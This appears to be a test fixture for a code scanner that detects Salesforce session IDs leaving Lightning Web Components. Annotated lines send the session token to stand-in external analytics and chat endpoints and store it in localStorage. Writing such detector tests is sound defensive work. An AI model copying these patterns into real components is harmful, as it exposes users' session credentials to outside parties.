import { LightningElement, wire } from 'lwc';
import sessionForLwc from '@salesforce/apex/OrgSession.sessionForLwc';

const ANALYTICS = 'https://analytics.acme-partner.example/collect';

export default class UsageBeacon extends LightningElement {
    @wire(sessionForLwc) session;

    async connectedCallback() {
        const sid = await sessionForLwc();
        const headers = new Headers();
        headers.append('Authorization', `Bearer ${sid}`);
        // Same origin: silent.
        // ok: session-id-to-external
        await fetch('/services/data/v64.0/limits', { headers });
        // expect: session-id-to-external
        await fetch(ANALYTICS, { method: 'POST', headers, body: JSON.stringify({ page: 'home' }) });
    }

    chatEndpoint = 'https://assist.acme-partner.example/api/chat';

    async ask(question) {
        const [token, base] = await Promise.all([sessionForLwc(), Promise.resolve('unused')]);
        // expect: session-id-to-external
        return fetch(this.chatEndpoint, { method: 'POST', headers: { 'X-SF-Token': token }, body: question + base });
    }

    remember() {
        // expect: session-id-exposed
        window.localStorage.setItem('acme.sid', this.session.data);
        // A value that only looks like a session: silent.
        const sessionId = Math.random().toString(36);
        // ok: session-id-to-external
        fetch(ANALYTICS + '?corr=' + sessionId);
    }
}
